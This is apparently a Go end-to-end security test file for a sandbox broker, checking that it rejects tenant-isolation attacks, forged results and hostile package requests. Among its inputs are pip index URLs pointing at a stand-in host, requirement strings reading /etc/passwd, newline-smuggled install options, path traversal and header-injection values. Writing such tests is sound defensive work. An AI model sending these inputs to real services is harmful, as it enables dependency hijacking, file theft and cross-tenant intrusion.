package attackers

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"

	"github.com/sandbox-broker/sandbox-broker/e2e/harness"
)

// ofTenants are those of who may use instances: uses that shut others out, results that
// are forged, contexts and packages.
func ofTenants(t *testing.T) []class {
	t.Helper()
	// resume resumes the victim while begin has it in use.
	resume := func(begin func(ctx context.Context, t *testing.T, s *scene)) func(t *testing.T, s *scene) {
		return func(t *testing.T, s *scene) {
			ctx, cancel := context.WithCancel(t.Context())
			defer cancel()
			begin(ctx, t, s)
			soon, stop := context.WithTimeout(t.Context(), patience)
			defer stop()
			answer := s.b.DoContext(soon, http.MethodPost, s.victim+"/resume", harness.Token, nil)
			assert.NilError(t, answer.Err)
			assert.Equal(t, answer.Status, http.StatusOK, "%s", answer.Body)
			s.serves(t)
		}
	}
	follow := func(ctx context.Context, t *testing.T, s *scene, path string) {
		stream, err := s.b.Watch(ctx, path)
		assert.NilError(t, err)
		t.Cleanup(stream.Close)
	}
	sleeper := func(t *testing.T, s *scene) string {
		answer := s.b.Do(http.MethodPost, s.victim+"/commands", harness.Token, map[string]any{"argv": []string{"sleep", "300"}, "background": true})
		var c struct{ ID string }
		answer.Into(t, &c)
		t.Cleanup(func() { s.b.Do(http.MethodDelete, s.victim+"/commands/"+c.ID, harness.Token, nil) })
		return s.victim + "/commands/" + c.ID
	}
	run := func(code string) attack {
		return attack{
			request: "POST {victim}/execute", body: jsonOf(t, map[string]any{"language": "python", "code": code, "arguments": map[string]any{}}),
			status: []int{http.StatusOK},
		}
	}
	forged := func(name, code string, holds func(t *testing.T, e harness.Execution)) attack {
		a := run("import os, sys, json\ndef main():\n    " + strings.ReplaceAll(code, "\n", "\n    "))
		a.name = name
		a.holds = func(t *testing.T, _ *scene, answer harness.Answer) {
			assert.Check(t, !bytes.Contains(answer.Body, bytes.Repeat([]byte("["), 200)))
			assert.Check(t, !bytes.Contains(answer.Body, bytes.Repeat([]byte("9"), 2000)))
			var e harness.Execution
			answer.Into(t, &e)
			holds(t, e)
		}
		return a
	}
	failed := func(t *testing.T, e harness.Execution) {
		assert.Check(t, is.Equal(e.Status, "failed"), "%+v", e)
		assert.Check(t, len(e.Result) == 0 || string(e.Result) == "null")
	}
	inContext := func(name, request, lines string, body map[string]any, status ...int) attack {
		return attack{name: name, request: request, lines: lines, body: jsonOf(t, body), status: status}
	}
	install := func(name, requirement string) attack {
		a := inContext(name, "POST {victim}/packages", "", map[string]any{"language": "python", "requirements": []string{requirement}}, 422)
		a.says = "requirements: "
		return a
	}
	pip := run("import subprocess, sys\nr = subprocess.run([sys.executable, '-m', 'pip', 'install', '--index-url', 'http://192.0.2.1/simple', 'evil'], capture_output=True, timeout=20)\nprint(r.returncode != 0)")
	pip.name = "by pip, from another index"
	pip.body = strings.Replace(pip.body, `"arguments":{},`, "", 1)
	pip.holds = func(t *testing.T, _ *scene, answer harness.Answer) {
		var e harness.Execution
		answer.Into(t, &e)
		assert.Check(t, is.Equal(e.Stdout, "True\n"), "%+v", e)
	}
	return []class{
		{"resume of what is in use", []attack{
			{name: "by an execution", does: resume(func(ctx context.Context, t *testing.T, s *scene) {
				stream, err := s.b.Stream(ctx, s.victim+"/execute", map[string]any{"language": "python", "code": "print('up', flush=True)\nimport time; time.sleep(300)", "timeout": 300})
				assert.NilError(t, err)
				t.Cleanup(stream.Close)
				assert.NilError(t, stream.Until("up"))
			})},
			{name: "by a watch", does: resume(func(ctx context.Context, t *testing.T, s *scene) { follow(ctx, t, s, s.victim+"/files/watch") })},
			{name: "by metrics", does: resume(func(ctx context.Context, t *testing.T, s *scene) { follow(ctx, t, s, s.victim+"/metrics") })},
			{name: "by who follows logs", does: resume(func(ctx context.Context, t *testing.T, s *scene) { follow(ctx, t, s, sleeper(t, s)+"/logs") })},
		}},
		{"forged results", []attack{
			forged("of thousands of brackets", "data = b'[' * 9000 + b']' * 9000\nos.write(4, b'{\"kind\": \"value\", \"length\": %d}\\n' % len(data) + data)\nos._exit(0)", failed),
			forged("of a number of thousands of digits", "os.write(4, b'{\"kind\": \"value\", \"length\": 5000}\\n' + b'9' * 5000)\nos._exit(0)", failed),
			forged("of what is no JSON", "os.write(4, b'{\"kind\": \"value\", \"length\": 4}\\n' + b'{\"a\"')\nos._exit(0)", func(t *testing.T, e harness.Execution) {
				assert.Check(t, len(e.Result) == 0, "%s", e.Result)
			}),
			forged("of a type that holds a line's end", "os.write(4, json.dumps({'kind': 'display', 'mime': 'text/plain\\r\\nX: y', 'group': 1, 'length': 1}).encode() + b'\\nx')\nreturn 7", func(t *testing.T, e harness.Execution) {
				for _, a := range e.Artifacts {
					assert.Check(t, !strings.ContainsAny(jsonOf(t, a), "\r\n"))
				}
				text, err := json.Marshal(e.Artifacts)
				assert.NilError(t, err)
				assert.Check(t, !strings.Contains(string(text), `\r`), "%s", text)
			}),
		}},
		{"default contexts", []attack{
			inContext("of another's instance", "POST {victim}/execute", "X-API-Key: "+harness.OtherToken+"\r\n", map[string]any{"language": "python", "code": "1", "context": "default"}, 404),
			inContext("of a language that there is not", "POST {victim}/execute", "", map[string]any{"language": "cobol", "code": "1", "context": "default"}, 400, 422),
			inContext("with a path for its name", "POST {victim}/execute", "", map[string]any{"language": "python", "code": "1", "context": "../default"}, 400, 404, 422),
			inContext("with a NUL in its name", "POST {victim}/execute", "", map[string]any{"language": "python", "code": "1", "context": "default\x00"}, 400, 404, 422),
			{name: "the end of another's", request: "DELETE {victim}/contexts/default", lines: "X-API-Key: " + harness.OtherToken + "\r\n", status: []int{404}},
		}},
		{"requests for packages", []attack{
			install("from another index", "--index-url=http://192.0.2.1/"),
			install("from a repository", "evil @ git+https://192.0.2.1/evil"),
			install("from a file of the installer's", "file:///etc/passwd"),
			install("from a list in a file", "-r/etc/passwd"),
			install("with a second line", "greeting\n--extra-index-url http://192.0.2.1/"),
			pip,
		}},
	}
}
